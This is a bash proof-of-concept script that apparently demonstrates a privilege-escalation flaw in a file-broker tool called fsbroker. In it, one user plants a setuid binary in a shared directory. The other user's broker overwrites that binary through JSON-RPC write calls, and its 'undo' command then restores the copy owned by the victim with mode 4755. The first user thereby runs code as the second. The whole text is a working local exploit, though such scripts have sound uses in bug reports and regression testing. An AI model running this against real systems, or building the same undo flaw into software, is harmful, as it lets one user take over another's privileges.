#!/bin/bash
# Same filesystem, no root involved: alice (uid 1001) runs the broker, bob (uid 65534) shares
# a writable directory. alice's server overwrites bob's setuid program: the hard link is
# refused (fs.protected_hardlinks), so it is copied -- as alice's, mode 4755 -- and `undo`
# puts that copy back: bob now runs his own code as alice.
BIN=${FSBROKER:-/tmp/fsbroker-rev}
ALICE="setpriv --reuid=1001 --regid=1001 --clear-groups"
BOB="setpriv --reuid=65534 --regid=65534 --clear-groups"
T=$(mktemp -d); chmod 755 $T; mkdir -p $T/state $T/shared; chown 1001:1001 $T/state; chmod 777 $T/shared
$BOB cp /usr/bin/id $T/shared/tool; $BOB chmod 4755 $T/shared/tool
ls -ln $T/shared/tool
printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"files/consent","params":{"requestedPaths":["w"],"access":"write"}}' \
  '{"jsonrpc":"2.0","id":2,"method":"files/write","params":{"path":"w/tool","content":"replaced"}}' |
  $ALICE env XDG_STATE_HOME=$T/state $BIN serve --root w=$T/shared --writable --consent auto --server-id evil 2>/dev/null | tail -1
$ALICE env XDG_STATE_HOME=$T/state $BIN history
$ALICE env XDG_STATE_HOME=$T/state $BIN undo --server evil
ls -ln $T/shared/tool
echo "bob runs it:"; $BOB $T/shared/tool
